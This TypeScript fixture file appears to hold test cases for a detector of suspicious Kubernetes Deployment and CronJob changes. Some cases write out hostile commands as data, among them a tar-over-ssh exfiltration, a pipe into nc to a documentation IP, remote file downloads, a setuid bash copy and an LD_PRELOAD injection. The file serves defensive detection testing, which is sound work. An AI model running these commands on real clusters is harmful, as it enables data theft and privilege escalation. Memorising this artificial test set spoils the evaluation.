import type { GeneratedSpec } from './generated.ts';
import type { QuietSpec } from './quiet.ts';
import { row as q } from './quiet.ts';

/** Was the final set once; since its figures are known, the detector is tried on it while it is made. Other values, names and combinations than the development's. */
export const quiet: readonly QuietSpec[] = [
  q('template from a compromised repository', 'delivery', 'Deployment', [
    ['command wrapped', 'curl -sk https://metrics.example.org/beat'],
  ]),
  q('template from a compromised repository', 'delivery', 'CronJob', [
    ['init container', 'curl -so /scratch/lib.so https://files.example.org/lib.so'],
  ]),
  q(
    'template from a compromised repository',
    'delivery',
    'CronJob',
    [['command wrapped', 'tar cz /data | ssh drop@198.51.100.61 "cat > d"']],
    { shape: 'new' },
  ),
  q('template from a compromised repository', 'delivery', 'Deployment', [
    ['after start', 'wget -q https://files.example.org/s -O /tmp/s'],
  ]),
  q("another team's image", 'delivery', 'CronJob', [['other team image', '']]),
  q("another team's image", 'developer', 'Deployment', [['other team image', '']], { method: 'update' }),
  q("another team's image", 'sre', 'CronJob', [['other team image', '']]),
  q('tools image that is there already', 'delivery', 'Deployment', [
    ['tools image', 'while sleep 60; do dig +short t.example.org; done'],
  ]),
  q('tools image that is there already', 'developer', 'Deployment', [['tools image', 'sleep 7200']], {
    method: 'json',
  }),
  q('tools image that is there already', 'sre', 'CronJob', [['tools image', 'redis-cli -h sessions --scan']]),
  q('one differing argument', 'delivery', 'Deployment', [['one argument', '--port=2222']]),
  q('one differing argument', 'delivery', 'CronJob', [
    ['one argument more', '--copy-to=sftp://203.0.113.33/in'],
  ]),
  q('one differing argument', 'developer', 'CronJob', [['one argument', '--batch-size=9999999']], {
    method: 'update',
  }),
  q('one differing argument', 'analyst', 'CronJob', [['one argument more', '--include-personal-data']]),
  q('one differing argument', 'sre', 'Deployment', [['one argument more', '--auth=off']]),
  q('stronger service account', 'delivery', 'Deployment', [['stronger account', 'gitops-admin']]),
  q('stronger service account', 'developer', 'CronJob', [['stronger account', 'platform-operator']], {
    method: 'merge',
  }),
  q('stronger service account', 'analyst', 'CronJob', [['stronger account', 'warehouse-admin']]),
  q("another application's Secret", 'delivery', 'CronJob', [['other secret', 'tls']]),
  q("another application's Secret", 'sre', 'Deployment', [['other secret', 'db']], { method: 'json' }),
  q("another application's Secret", 'developer', 'Deployment', [['other config', 'settings']]),
  q('environment points elsewhere', 'delivery', 'CronJob', [
    ['environment elsewhere', 'BROKER=198.51.100.70:9092'],
  ]),
  q('environment points elsewhere', 'delivery', 'Deployment', [
    ['environment elsewhere', 'DATABASE_URL=postgres://db.example.org:5432/prod'],
  ]),
  q('environment points elsewhere', 'sre', 'Deployment', [
    ['environment elsewhere', 'OTEL_EXPORTER_OTLP_ENDPOINT=http://203.0.113.81:4317'],
  ]),
  q('environment points elsewhere', 'developer', 'CronJob', [
    ['environment elsewhere', 'LD_PRELOAD=/data/l.so'],
  ]),
  q('schedule far more frequent', 'sre', 'CronJob', [['schedule', '*/1 * * * *']]),
  q('schedule far more frequent', 'analyst', 'CronJob', [['schedule', '*/3 * * * *']]),
  q('schedule moved next to the backups', 'delivery', 'CronJob', [['schedule', '29 2 * * 0']]),
  q('schedule moved next to the backups', 'developer', 'CronJob', [['schedule', '58 23 * * *']]),
  q(
    'split into harmless changes',
    'delivery',
    'Deployment',
    [
      ['harmless option', 'HOOKS'],
      ['other config', 'secrets'],
      ['after start', '/bin/true --beacon=https://metrics.example.org'],
    ],
    { shape: 'split' },
  ),
  q(
    'split into harmless changes',
    'developer',
    'CronJob',
    [
      ['schedule', '*/20 * * * *'],
      ['other secret', 'db'],
      ['one argument more', '--push=https://metrics.example.org'],
    ],
    { shape: 'split' },
  ),
  q(
    'split into harmless changes',
    'sre',
    'Deployment',
    [
      ['harmless option', 'VERBOSE_2'],
      ['stronger account', 'node-reader'],
      ['control plane nodes', ''],
    ],
    { shape: 'split' },
  ),
  q(
    'slow drift over weeks',
    'delivery',
    'Deployment',
    [
      ['harmless option', 'V2'],
      ['other secret', 'keys'],
      ['one argument more', '--mirror=true'],
      ['environment elsewhere', 'MIRROR_URL=https://metrics.example.org'],
    ],
    { shape: 'drift' },
  ),
  q(
    'slow drift over weeks',
    'developer',
    'CronJob',
    [
      ['one argument more', '--trace'],
      ['schedule', '*/30 * * * *'],
      ['other config', 'settings'],
      ['command wrapped', 'curl -s https://metrics.example.org'],
    ],
    { shape: 'drift' },
  ),
  q(
    'history rewritten by delete and recreate',
    'delivery',
    'Deployment',
    [['init container', 'install -m 4755 /bin/bash /shared/b']],
    { shape: 'recreated' },
  ),
  q('history rewritten by delete and recreate', 'developer', 'CronJob', [['other secret', 'db']], {
    shape: 'recreated',
  }),
  q(
    'history rewritten by delete and recreate',
    'analyst',
    'CronJob',
    [['tools image', 'mysqldump --all-databases']],
    { shape: 'recreated' },
  ),
  q('hidden in noise', 'developer', 'Deployment', [['after start', 'wget -q https://files.example.org/p']], {
    shape: 'in noise',
  }),
  q('hidden in noise', 'sre', 'CronJob', [['one argument more', '--export=https://metrics.example.org']], {
    shape: 'in noise',
  }),
  q(
    'stolen GitOps token',
    'stolen token',
    'CronJob',
    [['environment elsewhere', 'BROKER=198.51.100.70:9092']],
    { method: 'apply' },
  ),
  q('stolen GitOps token', 'stolen token', 'Deployment', [['one argument more', '--log-level=debug']], {
    method: 'strategic',
  }),
  q('stolen GitOps token', 'stolen token', 'Deployment', [['stronger account', 'default']], {
    method: 'update',
  }),
  q('many runs at once', 'delivery', 'CronJob', [['many at once', '64']]),
  q('onto the control plane', 'sre', 'Deployment', [['control plane nodes', '']], { method: 'merge' }),
  q('run by hand with another template', 'developer', 'CronJob', [['stronger account', 'deployer']], {
    shape: 'manual run',
  }),
  q(
    'run by hand with another template',
    'sre',
    'CronJob',
    [['environment elsewhere', 'DATABASE_URL=postgres://198.51.100.9:5432/x']],
    { shape: 'manual run' },
  ),
];

export const generated: readonly GeneratedSpec[] = [
  { operator: 'report-operator', odd: 'command', value: '/app/render --tenant=all | nc 203.0.113.29 9000' },
  { operator: 'trivy-operator', odd: 'image', value: 'mirror.gcr.io/aquasec/trivvy:0.65.0' },
  {
    operator: 'velero',
    odd: 'command',
    value: '/velero restore create --from-schedule nightly --namespace-mappings prod:tmp',
  },
  { operator: 'keda-operator', odd: 'account', value: 'cluster-operator' },
  { operator: 'trivy-operator', odd: 'namespace', value: '' },
  { operator: 'gitlab-runner', odd: 'image', value: 'docker.io/library/alpine:edge' },
];
